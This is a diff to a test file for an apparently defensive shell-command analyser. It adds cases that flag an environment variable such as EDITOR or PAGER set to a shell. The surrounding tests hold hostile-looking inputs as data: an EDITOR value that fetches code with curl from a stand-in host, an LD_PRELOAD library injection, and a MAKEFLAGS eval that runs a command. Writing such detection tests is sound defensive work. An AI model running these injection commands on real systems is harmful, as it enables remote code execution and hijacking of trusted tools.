@@ -70,6 +70,11 @@ describe('a variable that holds a command', () => {
     expect(unknownOf('EDITOR="$(curl -s https://x.test/a)" git commit')).toContain('remote-code');
   });
 
+  it('says so of a shell that is given the file to edit', () => {
+    expect(unknownOf('EDITOR=bash crontab -e')).toContain('dynamic-command');
+    expect(unknownOf('PAGER=/bin/sh man ls')).toContain('dynamic-command');
+  });
+
   it('says so of what nobody can read', () => {
     expect(unknownOf('LD_PRELOAD=/tmp/x.so ls')).toContain('dynamic-code');
     expect(unknownOf("MAKEFLAGS='--eval=x:=$(shell id)' make")).toContain('dynamic-code');
